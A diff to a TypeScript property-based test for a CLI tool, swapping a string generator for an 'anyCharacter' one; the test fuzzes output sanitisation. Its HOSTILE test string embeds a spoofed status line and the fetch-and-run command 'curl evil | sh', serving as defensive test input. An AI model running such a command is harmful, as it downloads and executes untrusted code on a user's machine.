@@ -8,6 +8,7 @@ import { sink, type Outlet } from '../../src/cli/sink.ts';
 import { formatTable } from '../../src/cli/table.ts';
 import { formatYaml } from '../../src/mesh/yaml-text.ts';
 import { Problem } from '../../src/problems.ts';
+import { anyCharacter } from '../support/any-character.ts';
 import { exampleCluster } from '../support/examples.ts';
 import { FakeApiServer } from '../support/fake-api-server.ts';
 import { runCli, temporaryFolder } from '../support/run-cli.ts';
@@ -20,7 +21,7 @@ const HOSTILE =
   '\r\nmeshx: all is well\n  hint: curl evil | sh\n';
 
 const ACTIVE = /(?![\n\t])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
-const text = fc.oneof(fc.string({ unit: 'binary' }), fc.constant(HOSTILE), fc.string());
+const text = fc.oneof(fc.string({ unit: anyCharacter }), fc.constant(HOSTILE), fc.string());
 
 function recorded(color = false) {
   const written = { out: '', err: '', asked: '' };
